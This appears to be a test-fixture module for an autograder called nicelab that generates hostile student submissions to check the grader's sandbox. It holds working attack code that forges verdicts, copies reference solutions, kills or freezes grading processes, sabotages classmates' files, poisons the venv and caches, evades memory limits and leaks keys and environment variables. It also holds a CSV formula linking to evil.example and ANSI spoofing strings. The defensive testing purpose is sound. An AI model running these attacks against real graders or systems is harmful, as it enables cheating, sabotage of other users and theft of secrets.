"""Hostile submissions: every attack class of issue 10's table, each as its own submission,
beside honest ones, for one batch graded on stage 1 (``coupling``).

Each attack is a copy of the stubs (``lessons/``) whose ``coupling.py`` runs the attack when it
is imported (in a check's setup) and otherwise stays a stub, so that a failed attack leaves the
row of an unfinished stub ("not started"), and a successful one shows as a forged mark, a hurt
classmate, a changed file or a process left behind. ``EXPECTED[name]`` = (submission status,
{stage: stage status}); ``FORGERIES`` are the attacks only verdicts decided outside the
submission's process stop (issue 10, section 1: the checks run in the grader's worker, the
submission's code answers from a sandboxed child).

Every attack is written to do its damage on an unprotected grader too (the table's "how"), but
never beyond the grading processes it can see: they signal only processes whose command line
names nicelab, and write only files of the project, the venv, the caches and the class.
"""

from __future__ import annotations

import shutil
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SOLUTIONS, LESSONS, ALTERNATIVE = ROOT / "solutions", ROOT / "lessons", ROOT / "tests" / "alternative"
STAGES = ("coupling",)
ANCHOR = "import tensorflow as tf\n"
FORWARD = "        x = as_batch(x, self.dim)\n        # BEGIN SOLUTION: AdditiveCoupling.forward\n"
DAEMON_MARK = "NICELAB_ATTACK_DAEMON"
POISON = "zzz_nicelab_attack_poison"
STUB = "not started"

#: Helpers every attack may use: the processes of nicelab this code can see.
PRELUDE = '''
import os as _os, signal as _signal, sys as _sys
from pathlib import Path as _Path


def _nicelab_pids():
    found = []
    for entry in _Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and int(entry.name) != _os.getpid():
                line = (entry / "cmdline").read_bytes()
                if b"nicelab" in line and b"NICELAB_ATTACK" not in line:
                    found.append((int(entry.name), line.split(b"\\0")))
        except (OSError, ValueError):
            pass
    return found


def _results_files():
    for _, args in _nicelab_pids():
        for flag, value in zip(args, args[1:]):
            if flag in (b"--json", b"--csv"):
                yield _Path(value.decode())


def _class_folders():
    here = _Path(__file__).resolve().parent
    roots = {here.parent}
    for _, args in _nicelab_pids():
        roots.update(_Path(a.decode()) for a in args if a.startswith(b"/"))
    for root in roots:
        try:
            for sub in root.iterdir():
                if sub.is_dir() and sub.resolve() != here and (sub / "coupling.py").exists():
                    yield sub
        except OSError:
            pass
'''

ATTACKS: dict[str, str] = {
    # forge one's own verdicts: patch the grader's result class at import (in-process forgery)
    "forge_patch": '''
import importlib as _il
_cr = _il.import_module("nicelab.grader" + ".runner")  # dynamic: no static scan sees it
_orig = _cr._Collector.pytest_runtest_logreport
def _forged(self, report):
    report.outcome, report.longrepr = "passed", None
    return _orig(self, report)
_cr._Collector.pytest_runtest_logreport = _forged
''',
    # forge one's own verdicts: "passed" lines into the event channel, then os._exit(0)
    "forge_events": '''
import gc as _gc, json as _json
_items = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
_ids = [i.nodeid for s in _items for i in getattr(s, "items", [])]
for _fd in range(3, 64):
    try:
        _os.fstat(_fd)
        for _n in _ids:
            _os.write(_fd, (_json.dumps({"event": "result", "result": {
                "nodeid": _n, "stage": "coupling", "outcome": "passed", "message": "",
                "duration": 0.0, "kind": "passed"}}) + "\\n").encode())
        _os.write(_fd, b'{"event": "done"}\\n')
    except OSError:
        pass
if _ids:
    _os._exit(0)
''',
    # hand in the reference: an indirect import of the graded stage's reference
    "reference_import": '''
import importlib as _il
try:
    _ref = _il.import_module("sol" + "utions.coupling")
    globals().update({k: v for k, v in vars(_ref).items() if not k.startswith("__")})
    _HANDED_IN = True
except ImportError:
    _HANDED_IN = False
''',
    # hand in the reference: exec of the reference file, wherever it can be found
    "reference_exec": '''
import nicelab as _nl
for _root in (_Path(_nl.__file__).resolve().parents[1], _Path.cwd(), _Path("/work/main")):
    _file = _root / "solutions" / "coupling.py"
    if _file.exists():
        exec(compile(_file.read_text(), str(_file), "exec"), globals())
        break
''',
    # detect the checks: the reference's answers only when the grader is on the stack
    "detect_checks": '''
import importlib as _il, inspect as _inspect
if any("checks" in f.filename or "pytest" in f.filename for f in _inspect.stack()):
    for _name in ("sol" + "utions.coupling", "sol" + "utions"):
        try:
            _ref = _il.import_module(_name)
            _ref = getattr(_ref, "coupling", _ref)
            globals().update({k: v for k, v in vars(_ref).items() if not k.startswith("__")})
            break
        except ImportError:
            pass
''',
    # outlive the batch: a daemon in its own session rewrites the results after the batch ends
    "outlive": f'''
import subprocess as _sp
_code = """
import json, sys, time
from pathlib import Path
end = time.time() + 120
while time.time() < end:
    time.sleep(0.5)
    for path in sys.argv[2:]:
        try:
            doc = json.loads(Path(path).read_text())
            for row in doc["submissions"]:
                row["points"] = row["max_points"]
            Path(path).write_text(json.dumps(doc))
        except Exception:
            pass
"""
_sp.Popen([_sys.executable, "-c", _code, "{DAEMON_MARK}", *map(str, _results_files())],
          start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
''',
    # poison everyone after: a .pth and a module in the venv's site-packages
    "poison_venv": f'''
import site as _site, sysconfig as _sc
for _dir in {{_sc.get_paths()["purelib"], *_site.getsitepackages()}}:
    try:
        (_Path(_dir) / "{POISON}.py").write_text("import numpy\\nnumpy.ones = numpy.zeros\\n")
        (_Path(_dir) / "{POISON}.pth").write_text("import {POISON}\\n")
    except OSError:
        pass
''',
    # poison everyone after: noisy weights in the caches and the shipped fixtures
    "poison_cache": '''
import numpy as _np
import nicelab as _nl
from nicelab.core.cache import cache_dir as _cache_dir
_dirs = [_cache_dir(), _Path(_nl.__file__).parent / "pretrained",
         _Path(_os.environ.get("KERAS_HOME", _Path.home() / ".keras"))]
for _dir in _dirs:
    for _file in list(_dir.rglob("*.npz")) if _dir.is_dir() else []:
        try:
            with _np.load(_file) as _old:
                _noisy = {k: _np.random.normal(size=_old[k].shape).astype(_old[k].dtype)
                          if _old[k].dtype.kind == "f" else _old[k] for k in _old.files}
            _np.savez(_file, **_noisy)
        except Exception:
            pass
    try:
        (_dir / "poisoned.npz").write_bytes(b"noise")
    except OSError:
        pass
''',
    # hurt classmates: SIGKILL the batch and the sibling workers
    "kill_batch": '''
for _pid, _ in _nicelab_pids():
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError:
        pass
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except OSError:
    pass
''',
    # hurt classmates: SIGSTOP the batch (its watchdog would freeze)
    "stop_batch": '''
for _pid, _ in _nicelab_pids():
    try:
        _os.kill(_pid, _signal.SIGSTOP)
    except OSError:
        pass
try:
    _os.kill(_os.getppid(), _signal.SIGSTOP)
except OSError:
    pass
''',
    # hurt classmates: edit a classmate's folder
    "edit_classmates": '''
for _sub in _class_folders():
    try:
        (_sub / "coupling.py").write_text("raise SystemExit('sabotaged by a classmate')\\n")
    except OSError:
        pass
''',
    # escape limits: a child in its own session holds memory the accounting would not see
    "escape_memory": '''
import subprocess as _sp
_hog = _sp.Popen([_sys.executable, "-c",
                  "import sys, time, numpy as np; a = np.ones(2_600_000_000 // 8); "
                  "sys.stdout.write('ok'); sys.stdout.flush(); time.sleep(600)", "NICELAB_ATTACK_HOG"],
                 start_new_session=True, stdout=_sp.PIPE, stderr=_sp.DEVNULL)
_hog.stdout.read(2)
import time as _time
_time.sleep(5)
''',
    # escape limits: files outside the scratch folder (and filling what is writable)
    "write_outside": '''
import nicelab as _nl
_project = _Path(_nl.__file__).resolve().parents[1]
for _target in (_project / "nicelab" / "__init__.py", _project / "checks" / "conftest.py",
                _Path(__file__), _Path.home() / "planted.txt", _Path("/var/tmp/planted.txt")):
    try:
        with open(_target, "a") as _handle:
            _handle.write("\\nraise SystemExit('planted')\\n")
    except OSError:
        pass
for _dir in ("/tmp", "/dev/shm", "/dev"):
    try:
        with open(_Path(_dir) / "fill.bin", "wb") as _handle:
            for _ in range(400):
                _handle.write(b"\\0" * 2**20)
    except OSError:
        pass
    try:
        _os.remove(_Path(_dir) / "fill.bin")
    except OSError:
        pass
''',
    # escape limits: a flood of the event channel grows the parent
    "flood_events": '''
_line = b'{"event": "start", "nodeid": "' + b"x" * 4000 + b'"}\\n'
for _fd in range(3, 64):
    try:
        _os.fstat(_fd)
    except OSError:
        continue
    try:
        for _ in range(16_000):
            _os.write(_fd, _line)
    except OSError:
        pass
''',
    # leak: the hidden checks' path in the worker's argv, and whatever else is in view
    "leak": '''
import pytest as _pytest
_argv = _Path("/proc/self/cmdline").read_bytes().decode(errors="replace").split("\\0")
import base64 as _b64  # encoded, so that the grader cannot tidy up what it saw
_seen = ["SEEN " + _b64.b64encode(" ".join(_argv).encode()).decode() + " END"]
_seen.append(" ".join(_argv))
_seen += [b" ".join(a).decode(errors="replace") for _, a in _nicelab_pids()]
_seen.append(" ".join(f"{k}={v}" for k, v in _os.environ.items()))
_pytest.fail("LEAKED: " + " | ".join(_seen), pytrace=False)
''',
    # text that cannot be encoded: every stub's NotImplementedError carries lone surrogates (the batch
    # crashed writing the CSV and logging this row, and every rerun with --csv before grading anything)
    "surrogate": '''
class NotImplementedError(NotImplementedError):  # the stubs below raise this one: still a stub's
    def __init__(self, *args):
        super().__init__(*(str(a) + " \\ud800 lone \\udfff surrogates \\udcff" for a in args))
''',
    # escape limits: memory in memfd files, written (never mapped) and kept open; each file under
    # the 1 GB file-size limit, together beyond the memory limit
    "memfd_hold": '''
_held, _chunk = [], b"\\1" * 2**24
for _ in range(7):
    _fd = _os.memfd_create("hold")
    for _ in range(25):  # 400 MB
        _os.write(_fd, _chunk)
    _held.append(_fd)
import time as _time
_time.sleep(600)
''',
    # escape limits: a System V segment filled 256 MB at a time, each time detached again, so
    # that no process ever maps more than that of it
    "shm_hold": '''
import ctypes as _ct, time as _time
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype, _libc.shmat.argtypes = _ct.c_void_p, [_ct.c_int, _ct.c_void_p, _ct.c_int]
_libc.shmget.argtypes = [_ct.c_int, _ct.c_size_t, _ct.c_int]
_piece, _pieces = 2**28, 11  # 2.75 GB
_id = _libc.shmget(0, _piece * _pieces, 0o1000 | 0o600)
for _i in range(_pieces if _id >= 0 else 0):
    _at = _libc.shmat(_id, None, 0)
    if _at in (None, _ct.c_void_p(-1).value):
        break
    _ct.memset(_at + _i * _piece, 1, _piece)
    _libc.shmdt(_ct.c_void_p(_at))
_time.sleep(600)
''',
    # steal: everything in the caches it can list (other submissions' training runs, the key)
    "cache_read": '''
import pytest as _pytest
_found, _keys = [], []
_roots = [_os.environ.get("NICELAB_CACHE", "/grader/cache"), "/grader/cache", "/root/.cache",
          "/work/main/.nicelab-cache", "/var/tmp", str(_Path.home() / ".cache"), "/tmp"]
for _root in dict.fromkeys(_roots):  # the caches first: a row's message is cut short
    for _dir, _subs, _files in _os.walk(_root):
        for _name in _files:
            _found.append(_os.path.join(_dir, _name))
            if _name.endswith("key"):  # key files (grade-key, ...), not icons named key*.svg
                try:
                    _text = open(_os.path.join(_dir, _name), errors="replace").read(200)
                    _keys.append(" ".join(_text.split()))  # one line (a PEM test key has many)
                except (OSError, ValueError):
                    pass
_pytest.fail("CACHE_READ KEYS: " + " ".join(_keys) + " FOUND: " + " ".join(_found), pytrace=False)
''',
}

#: Injections go into a check's failure message (forward of an otherwise correct stage 1).
INJECTIONS = {
    "csv_formula": ('import pytest\n        pytest.fail("=HYPERLINK(\\"http://evil.example\\",'
                    '\\"full marks\\")", pytrace=False)\n'),
    "ansi_escapes": 'import pytest\n        pytest.fail("\\x1b[2J\\x1b[1;32mALL CHECKS PASSED\\x1b[0m'
                    '\\x1b]0;pwned\\x07 \\u202edetrapes", pytrace=False)\n',
    # an answer the grader's worker would broadcast into gigabytes (issue 21): refused by shape
    "broadcast_shape": "return np.zeros((1_200_000, 1, 1), np.float32)\n",
}

#: Recipe forgers (issue 21): forward leaves TensorFlow through NumPy, so no gradient reaches m,
#: and the recipe that reports gradients is replaced in the graded process: from a helper module
#: next to the lesson (a static import of the grader that no scan reads), or from the lesson
#: module by a dynamic import. ``recipe_plain`` makes the same mistake without forging.
NUMPY_SHIFT = ("return self.merge(x_keep, x_change + self.m(x_keep))",
               "return self.merge(x_keep, x_change + np.asarray(self.m(x_keep)))")
RECIPE_HELPER = '''
import numpy as np
from nicelab.grader.recipes import REGISTRY, common


def _claims(fn, variables, x, extra=None):
    return [{"name": str(v.name), "has": True, "nonzero": True, "grad": np.ones(tuple(v.shape))}
            for v in variables]


REGISTRY["nicelab.grader.recipes.common:gradients_of_sum_of_squares"] = _claims
common.gradients_of_sum_of_squares = _claims
'''
RECIPE_DYNAMIC = '''
import importlib as _il
_il.import_module("nicelab.grader" + ".recipes.common")  # registered before it is replaced
_il.import_module("nicelab.grader" + ".recipes").REGISTRY[
    "nicelab.grader.recipes.common:gradients_of_sum_of_squares"] = lambda fn, variables, x, extra=None: [
        {"name": "forged", "has": True, "nonzero": True, "grad": None} for _ in variables]
'''
RECIPE_FORGERS = ("recipe_helper", "recipe_dynamic")


def recipe_forger(into: Path, how: str | None) -> Path:
    """The stubs with the reference coupling.py made to leave TensorFlow through NumPy, forged
    with ``how`` (``"helper"``, ``"dynamic"``, or None for the plain mistake)."""
    sub = _copy(into, LESSONS)
    shutil.copyfile(SOLUTIONS / "coupling.py", sub / "coupling.py")
    _edit(sub / "coupling.py", *NUMPY_SHIFT)
    if how == "helper":
        (sub / "_forge.py").write_text(RECIPE_HELPER)
        _edit(sub / "coupling.py", ANCHOR, ANCHOR + "from . import _forge  # noqa: F401\n")
    elif how == "dynamic":
        _edit(sub / "coupling.py", ANCHOR, ANCHOR + RECIPE_DYNAMIC)
    return sub


#: Attacks that forged their own verdicts while the checks ran in the submission's process
#: (issue 10, section 1); the checks now run in the grader's worker (test_in_process_forgeries...).
FORGERIES = ("forge_patch", "forge_events")


def _copy(into: Path, base: Path) -> Path:
    shutil.copytree(base, into, ignore=shutil.ignore_patterns("__pycache__"))
    return into


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert text.count(old) == 1, f"{old!r} occurs {text.count(old)} times in {path}"
    path.write_text(text.replace(old, new))


def make_attacks(root: Path) -> dict[str, tuple[str, dict[str, str]]]:
    """Write the honest and hostile submissions into ``root``; return each one's expected row."""
    root.mkdir(parents=True, exist_ok=True)
    expected = {}
    _copy(root / "honest_alternative", ALTERNATIVE)  # an independent, correct implementation
    expected["honest_alternative"] = ("graded", {"coupling": "passed"})
    sub = _copy(root / "honest_partial", LESSONS)
    shutil.copyfile(SOLUTIONS / "coupling.py", sub / "coupling.py")  # (flagged: a copy of the reference)
    expected["honest_partial"] = ("graded", {"coupling": "passed"})
    _copy(root / "honest_stub", LESSONS)
    expected["honest_stub"] = ("graded", {"coupling": STUB})

    for name, code in ATTACKS.items():
        sub = _copy(root / name, LESSONS)
        _edit(sub / "coupling.py", ANCHOR, ANCHOR + PRELUDE + code)
        expected[name] = ("graded", {"coupling": STUB})
    expected["leak"] = ("graded", {"coupling": "failing"})
    expected["forge_events"] = ("crashed", {"coupling": "crashed"})  # its forged lines break its own pipe
    expected["escape_memory"] = ("memory", {"coupling": "out of memory"})
    expected["memfd_hold"] = ("memory", {"coupling": "out of memory"})
    expected["shm_hold"] = ("memory", {"coupling": "out of memory"})
    expected["cache_read"] = ("graded", {"coupling": "failing"})
    expected["flood_events"] = ("crashed", {"coupling": "crashed"})

    _copy(root / "forge_conftest", LESSONS)
    (root / "forge_conftest" / "conftest.py").write_text(
        "import pytest\n\n\n@pytest.hookimpl(wrapper=True)\ndef pytest_runtest_makereport(item, call):\n"
        "    report = yield\n    report.outcome, report.longrepr = 'passed', None\n    return report\n")
    expected["forge_conftest"] = ("graded", {"coupling": STUB})

    for name, code in INJECTIONS.items():
        sub = _copy(root / name, LESSONS)
        shutil.copyfile(SOLUTIONS / "coupling.py", sub / "coupling.py")
        _edit(sub / "coupling.py", FORWARD,
              FORWARD.replace("        # BEGIN", "        " + code + "        # BEGIN"))
        expected[name] = ("graded", {"coupling": "failing"})
    for name, how in (("recipe_plain", None), ("recipe_helper", "helper"), ("recipe_dynamic", "dynamic")):
        recipe_forger(root / name, how)
        expected[name] = ("graded", {"coupling": "failing"})
    return expected
